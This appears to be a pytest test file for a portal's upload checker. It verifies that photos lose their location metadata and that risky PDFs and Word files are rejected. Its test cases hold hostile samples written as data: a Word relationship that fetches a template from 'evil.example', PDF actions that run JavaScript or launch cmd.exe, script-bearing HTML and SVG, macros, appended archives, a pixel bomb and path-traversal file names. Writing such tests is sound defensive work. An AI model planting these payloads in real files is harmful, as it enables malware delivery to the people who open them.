"""What is taken of the files that strangers send."""

import io

import pytest
from PIL import Image

from portal.uploads.errors import (
    EmptyFile,
    Heic,
    Locked,
    OldWord,
    TooBig,
    TooManyPages,
    TooManyPixels,
    UnfitFile,
    Unsafe,
    WrongKind,
)
from portal.uploads.judging import judge
from portal.uploads.limits import LONGEST_SIDE, MOST_BYTES, MOST_PAGES, MOST_PICTURE_BYTES
from tests.portal.uploads import files

REMOTE_TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
EXPANDING = b'<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>'


class TestPictures:
    def test_lose_where_and_with_what_they_were_taken(self):
        sent = files.picture_from_a_telephone()
        assert b"Exif" in sent
        kept = judge(data=sent, name="IMG 0001.JPG")
        assert (kept.name, kept.media_type) == ("IMG 0001.jpg", "image/jpeg")
        assert b"Exif" not in kept.data
        assert b"105.7469" not in kept.data
        with Image.open(io.BytesIO(kept.data)) as drawn:
            assert drawn.size == (200, 300)  # upright
            assert not drawn.getexif()

    @pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
    def test_of_every_kind_become_jpeg(self, kind: str):
        kept = judge(data=files.picture(kind=kind), name=f"don.{kind.lower()}")
        assert kept.data.startswith(b"\xff\xd8\xff")
        assert kept.name == "don.jpg"

    def test_are_bounded(self):
        with Image.open(io.BytesIO(judge(data=files.picture(size=(4000, 3000)), name="a").data)) as drawn:
            assert max(drawn.size) == LONGEST_SIDE

    def test_lose_what_hid_behind_them(self):
        kept = judge(data=files.picture() + files.archive(a=b"<script>"), name="a.jpg")
        assert b"PK\x03\x04" not in kept.data


@pytest.mark.parametrize(
    "data",
    [files.pdf(), files.pdf(pages=MOST_PAGES), files.pdf(act=files.action("/GoTo"))],
    ids=["one page", "many pages", "opens at a page"],
)
def test_a_harmless_pdf_is_kept_as_it_is(data: bytes):
    kept = judge(data=data, name="../../đơn khởi kiện.exe")
    assert kept.data == data
    assert (kept.name, kept.media_type) == ("đơn khởi kiện.pdf", "application/pdf")


def test_a_harmless_word_file_is_kept_as_it_is():
    data = files.docx()
    assert judge(data=data, name="Hợp đồng.docx").data == data


@pytest.mark.parametrize(
    ("data", "fault"),
    [
        pytest.param(b"", EmptyFile, id="nothing"),
        pytest.param(b"\x00" * 40, EmptyFile, id="zeros"),
        pytest.param(files.pdf() + b" " * MOST_BYTES, TooBig, id="too big"),
        pytest.param(files.picture() + bytes(MOST_PICTURE_BYTES), TooBig, id="too big a picture"),
        pytest.param(b"MZ\x90\x00 program", WrongKind, id="program"),
        pytest.param(b"<html><script>alert(1)</script>", WrongKind, id="html"),
        pytest.param(b"<svg xmlns='http://www.w3.org/2000/svg' onload='a()'/>", WrongKind, id="svg"),
        pytest.param(b"GIF89a;", WrongKind, id="gif"),
        pytest.param(b"\xd0\xcf\x11\xe0" + bytes(600), OldWord, id="old word"),
        pytest.param(b"\x00\x00\x00\x18ftypheic" + bytes(50), Heic, id="heic"),
        pytest.param(b"\xff\xd8\xff" + b"no picture" * 9, UnfitFile, id="broken picture"),
        pytest.param(files.bomb_of_pixels(), TooManyPixels, id="bomb of pixels"),
        pytest.param(b"\n\n" + files.pdf(), WrongKind, id="something before a pdf"),
        pytest.param(files.pdf() + files.archive(a=b"x" * 2000), Unsafe, id="something behind a pdf"),
        pytest.param(b"%PDF-1.7\nnothing\n%%EOF", UnfitFile, id="broken pdf"),
        pytest.param(files.pdf(pages=MOST_PAGES + 1), TooManyPages, id="long pdf"),
        pytest.param(files.pdf(password="bi-mat"), Locked, id="locked pdf"),
        pytest.param(files.pdf(act=files.action("/JavaScript", JS="x")), Unsafe, id="pdf with script"),
        pytest.param(files.pdf(act=files.action("/Launch", F="cmd.exe")), Unsafe, id="pdf that launches"),
        pytest.param(files.pdf_with_a_name_in_escapes(), Unsafe, id="pdf with a script in escapes"),
        pytest.param(files.archive(**{"a.txt": b"x"}), WrongKind, id="zip as docx"),
        pytest.param(files.docx() + b"trailing" * 10, Unsafe, id="something behind a docx"),
        pytest.param(b"PK\x03\x04" + bytes(300), Unsafe, id="broken docx"),
        pytest.param(files.docx(parts={"word/vbaProject.bin": b"x"}), Unsafe, id="macros"),
        pytest.param(files.docx(parts={"word/embeddings/a.xlsx": b"x"}), Unsafe, id="file in a file"),
        pytest.param(files.docx(parts={"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}), Unsafe, id="fetches"),
        pytest.param(files.docx(parts={"word/_rels/a.rels": EXPANDING}), Unsafe, id="entities"),
    ],
)
def test_what_is_not_taken_says_why(data: bytes, fault: type[UnfitFile]):
    with pytest.raises(UnfitFile) as told:
        judge(data=data, name="tệp")
    assert type(told.value) is fault
    assert str(told.value).endswith(".")


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("C:\\Users\\Tu\\don.pdf", "don.pdf"),
        ("..", "tep-gui-kem.pdf"),
        ("a\u202egpj.exe", "a gpj.pdf"),
        ("x" * 300, "x" * 120 + ".pdf"),
        ('"><script>.pdf', "script.pdf"),
    ],
)
def test_names_lead_nobody_astray(sent: str, kept: str):
    assert judge(data=files.pdf(), name=sent).name == kept
